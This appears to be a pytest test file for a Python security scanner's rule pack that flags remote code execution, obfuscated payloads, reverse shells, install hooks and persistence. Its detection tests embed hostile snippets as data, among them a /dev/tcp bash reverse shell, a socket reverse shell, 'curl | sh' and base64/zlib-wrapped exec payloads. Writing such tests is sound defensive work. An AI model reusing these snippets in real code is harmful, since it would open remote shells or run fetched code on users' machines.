"""The DS1xx pack: severity follows provenance, payloads are decoded and scanned, bounds become notifications."""

from __future__ import annotations

import base64
import site
import textwrap
import zlib
from pathlib import Path

import pytest

from datasec_scan.config import Config, Limits
from datasec_scan.engine import scan_file
from datasec_scan.model import Severity
from datasec_scan.plugins import RuleSet, discover
from datasec_scan.testing import parse_annotations

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
DS1XX = ("DS101", "DS102", "DS103", "DS104", "DS105", "DS106", "DS107", "DS108", "DS109")


@pytest.fixture(scope="module")
def pack() -> RuleSet:
    rules = discover()
    return rules.select([r.code for r in rules.rules if r.code in DS1XX])


def scan(pack: RuleSet, code: str, path: str = "mod.py", config: Config | None = None):
    return scan_file(path, textwrap.dedent(code).encode(), pack, config or Config())


def severities(pack: RuleSet, code: str, rule: str, path: str = "mod.py") -> list[Severity]:
    return [f.severity for f in scan(pack, code, path).findings if f.rule == rule]


@pytest.mark.parametrize("code,expected", [
    ("import requests\nexec(requests.get('https://example.com').text)\n", [Severity.CRITICAL]),
    ("import socket, pickle\ns = socket.create_connection(('203.0.113.1', 1))\npickle.loads(s.recv(9))\n",
     [Severity.CRITICAL]),
    ("import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\n", [Severity.HIGH]),
    ("import os\neval(os.environ['X'])\n", [Severity.MEDIUM]),
    ("exec(open('version.py').read())\n", [Severity.LOW]),
    ("import base64, zlib\nexec(zlib.decompress(base64.b64decode(open('font.dat', 'rb').read())))\n", [Severity.HIGH]),
    ("import base64, os\ncode = base64.b64decode(os.environ['X'])\nexec(code)\n", [Severity.HIGH]),
    ("import codecs\nexec(codecs.decode(open('conf.py', 'rb').read(), 'utf-8'))\n", [Severity.LOW]),
    ("import base64, pickle\npickle.loads(base64.b64decode(open('cache.txt').read()))\n", [Severity.LOW]),
    # compressed by the program itself on the way (a module cache): a round trip hides nothing
    ("import zlib\nsource = open('mod.py', 'rb').read()\ncache = zlib.compress(source)\n"
     "exec(compile(zlib.decompress(cache), 'mod.py', 'exec'))\n", [Severity.LOW]),
    ("import pickle\npickle.load(open('cache.pkl', 'rb'))\n", [Severity.LOW]),
    ("exec('1+1')\n", []),
    ("import ast, sys\nast.literal_eval(sys.argv[1])\n", []),
    ("def f(src):\n    exec(src)\n", []),
])
def test_ds101_severity_follows_provenance(pack: RuleSet, code: str, expected: list[Severity]) -> None:
    assert severities(pack, code, "DS101") == expected


@pytest.mark.parametrize("call", [
    "__import__('o'+'s').system", "importlib.import_module('os').system", "getattr(__import__('os'), 'sys'+'tem')",
    "getattr(builtins, 'ex'+'ec')", "globals()['ev'+'al']", "vars(builtins)['exec']", "P",
])
def test_dynamic_names_reach_the_sinks(pack: RuleSet, call: str) -> None:
    code = (f"import builtins, importlib, requests\nfrom subprocess import Popen as P\n"
            f"{call}(requests.get('https://example.com/x').text{', shell=True' if call == 'P' else ''})\n")
    found = scan(pack, code).findings
    assert found, call


def test_payload_findings_point_at_the_literal(pack: RuleSet) -> None:
    inner = ("import os, socket\ns = socket.socket()\ns.connect(('203.0.113.7', 4444))\n"
             "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\n")
    blob = base64.b64encode(zlib.compress(inner.encode())).decode()
    code = f"import base64, zlib\nPAYLOAD = (\n    '{blob}'\n)\nexec(zlib.decompress(base64.b64decode(PAYLOAD)))\n"
    findings = scan(pack, code).findings
    ds101 = [f for f in findings if f.rule == "DS101"]
    ds102 = [f for f in findings if f.rule == "DS102"]
    assert ds101 and ds101[0].location.line == 5 and ds101[0].severity == Severity.HIGH
    assert "base64+zlib" in ds101[0].message
    assert ds102 and ds102[0].location.line == 3, "the nested finding is reported at the literal"
    assert "inside payload decoded from base64+zlib" in ds102[0].message


def test_decode_limit_becomes_a_notification(pack: RuleSet) -> None:
    blob = base64.b64encode(zlib.compress(b"A" * 3_000_000)).decode()
    code = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{blob}')))\n"
    result = scan(pack, code, config=Config(limits=Limits(max_decoded_bytes=100_000)))
    assert any(n.kind == "decode-limit" for n in result.notifications)
    assert [f.severity for f in result.findings if f.rule == "DS101"] == [Severity.HIGH]


def test_nested_depth_is_bounded(pack: RuleSet) -> None:
    code = "import os; os.system('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1')\n"
    for _ in range(6):
        code = f"import base64\nexec(base64.b64decode('{base64.b64encode(code.encode()).decode()}'))\n"
    result = scan(pack, code)
    assert any(n.kind == "nested-depth" for n in result.notifications)


def test_decoded_secret_is_redacted_in_messages(pack: RuleSet) -> None:
    inner = "import os\nos.environ['K'] = 'AKIAIOSFODNN7EXAMPLEAKIAIOSFODNN7EXAMPLE'\n"
    code = f"import base64\nexec(base64.b64decode('{base64.b64encode(inner.encode()).decode()}'))\n"
    for f in scan(pack, code).findings:
        assert "AKIAIOSFODNN7EXAMPLEAKIAIOSFODNN7EXAMPLE" not in f.message


def test_loopback_listener_without_execution_is_quiet(pack: RuleSet) -> None:
    code = ("import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 9000))\ns.listen()\n"
            "c, _ = s.accept()\nc.sendall(c.recv(10))\n")
    assert not scan(pack, code).findings


def test_ordinary_subprocess_use_is_quiet(pack: RuleSet) -> None:
    code = ("import subprocess, os\nsubprocess.run(['git', 'status'], check=True)\n"
            "subprocess.check_output('ls -l', shell=True)\nos.system('make test')\n")
    assert not scan(pack, code).findings


def test_real_pth_files_stay_quiet(pack: RuleSet) -> None:
    seen = 0
    for folder in site.getsitepackages():
        for pth in sorted(Path(folder).glob("*.pth")):
            seen += 1
            for f in scan_file(pth.name, pth.read_bytes(), pack, Config()).findings:
                assert f.severity <= Severity.LOW, (pth.name, f.message)
    if not seen:
        pytest.skip("no .pth files in this environment")


def test_fixture_counts() -> None:
    """Every DS1xx rule has true positives, benign look-alikes and a known miss written down."""
    counts = {code: {"ruleid": 0, "ok": 0, "todoruleid": 0, "todook": 0} for code in DS1XX}
    for path in FIXTURES.rglob("*"):
        if path.is_file() and path.suffix in (".py", ".pth"):
            exp = parse_annotations(path.read_text("utf-8"))
            for kind in counts["DS101"]:
                for code, lines in getattr(exp, kind).items():
                    if code in counts:
                        counts[code][kind] += len(lines)
    for code, c in counts.items():
        assert c["ruleid"] >= 3 and c["ok"] >= 2, (code, c)


def test_reduced_scan_when_libcst_cannot_parse(pack: RuleSet) -> None:
    code = ('import base64, os\nprint "python 2"\nexec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik="))\n'
            'os.system("curl -s https://example.com/x | sh")\n')
    result = scan(pack, code, path="setup.py")
    rules = {(f.rule, f.location.line) for f in result.findings if f.fallback}
    assert {("DS101", 3), ("DS104", 4), ("DS105", 4)} <= rules


@pytest.mark.parametrize("code,path,rule,expected", [
    # `python -c CODE` is judged like exec(CODE): its payload is scanned.
    (("import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', "
      "\"import requests; exec(requests.get('https://example.com/s').text)\"])\n"), "mod.py", "DS101",
     [Severity.CRITICAL]),
    ("import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'print(1)'])\n", "mod.py", "DS101", []),
    # A helper the hook (or the import) calls carries the hook's severity; one nobody calls is quiet.
    (("import urllib.request\nfrom setuptools import setup\nfrom setuptools.command.install import install\n"
      "def ping():\n    urllib.request.urlopen('https://example.com/p')\n"
      "class I(install):\n    def run(self):\n        ping()\n"
      "setup(name='x', cmdclass={'install': I})\n"), "setup.py", "DS105", [Severity.HIGH]),
    ("import urllib.request\ndef ping():\n    urllib.request.urlopen('https://example.com/p')\n",
     "pkg/__init__.py", "DS105", []),
    # The connection and the shell in different functions.
    (("import socket, subprocess\ndef conn():\n    s = socket.socket()\n    s.connect(('203.0.113.7', 4444))\n"
      "    return s\ndef run(s):\n    subprocess.run(s.recv(99).decode(), shell=True)\nrun(conn())\n"),
     "mod.py", "DS102", [Severity.CRITICAL]),
    ("import subprocess\ndef run(pipe):\n    subprocess.run(pipe.recv(), shell=True)\n", "mod.py", "DS102", []),
    # A setting compared with a state word is configuration; a secret-named value is not.
    ("def has_auth(cfg):\n    return cfg['authorization'] == 'enabled'\n", "mod.py", "DS108", []),
    ("def check_token(token):\n    return token == 'tk-7f1e2d3c4b5a'\n", "mod.py", "DS108", [Severity.HIGH]),
    # A payload kept in the module's docstring.
    ('"""Helpers.\n\nBuild-Id: aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik=\n"""\nimport base64\n'
     'exec(base64.b64decode(__doc__.rsplit("Build-Id:", 1)[1].strip()))\n', "mod.py", "DS101", [Severity.HIGH]),
    ('"""Helpers."""\nprint(__doc__.split(".")[0])\n', "mod.py", "DS101", []),
    # Test code: a test server's fixed token, a decoder's test, a startup file written into a temporary home.
    ("def check_token(token):\n    return token == 'tk-7f1e2d3c4b5a'\n", "tests/test_auth.py", "DS108",
     [Severity.MEDIUM]),
    ("import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\n", "tests/test_codec.py",
     "DS101", [Severity.MEDIUM]),
    ("import requests\nexec(requests.get('https://example.com').text)\n", "tests/test_x.py", "DS101",
     [Severity.CRITICAL]),
    ("import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\n", "tests/test_rc.py", "DS107",
     [Severity.MEDIUM]),
    # Site folders: a loop over them, a mode chosen at run time; a .pth of paths only is low.
    (("import os, site\nfor d in site.getsitepackages() + [site.getusersitepackages()]:\n"
      "    with open(os.path.join(d, 'init.pth'), 'w') as fh:\n        fh.write(PAYLOAD)\n"), "setup.py", "DS107",
     [Severity.HIGH]),
    (("import os, sysconfig\np = os.path.join(sysconfig.get_paths()['purelib'], 'sitecustomize.py')\n"
      "mode = 'a' if os.path.exists(p) else 'w'\nopen(p, mode).write(CODE)\n"), "setup.py", "DS107", [Severity.HIGH]),
    (("import sysconfig\nfrom pathlib import Path\ndef dev(src):\n"
      "    (Path(sysconfig.get_paths()['purelib']) / 'dev.pth').write_text(str(src.resolve()) + '\\n')\n"),
     "mod.py", "DS107", [Severity.LOW]),
    (("import sysconfig\nfrom pathlib import Path\ndef dev(src):\n"
      "    (Path(sysconfig.get_paths()['purelib']) / 'dev.pth').write_text('import ' + src + '\\n')\n"),
     "mod.py", "DS107", [Severity.HIGH]),
    # Asking the user first: an installer doing what it was asked.
    (("from pathlib import Path\ndef install_service(unit):\n    if input('Install? [y/N] ') != 'y':\n"
      "        return\n    (Path.home() / '.config/systemd/user/app.service').write_text(unit)\n"), "mod.py", "DS107",
     [Severity.MEDIUM]),
    (("from pathlib import Path\ndef install_service(unit):\n"
      "    (Path.home() / '.config/systemd/user/app.service').write_text(unit)\n    input('done')\n"), "mod.py",
     "DS107", [Severity.HIGH]),
])
def test_split_and_indirect_patterns(pack: RuleSet, code: str, path: str, rule: str,
                                     expected: list[Severity]) -> None:
    assert severities(pack, code, rule, path) == expected


@pytest.mark.parametrize("command", [
    "[*base, *shlex.split(extra), *shlex.split(extra)]", "[*base]", "[]", "(*base, '-c', code)",
    "[*base, '-o', 'out', url]",
])
def test_argument_lists_of_starred_parts_do_not_break_rules(pack: RuleSet, command: str) -> None:
    code = ("import shlex, subprocess, sys\nbase = [sys.executable]\nextra = 'a'\ncode = 'x'\n"
            f"url = 'https://example.com'\nsubprocess.run({command})\nsubprocess.Popen({command}, shell=True)\n")
    result = scan(pack, code)
    assert not [n for n in result.notifications if n.kind == "rule-error"]
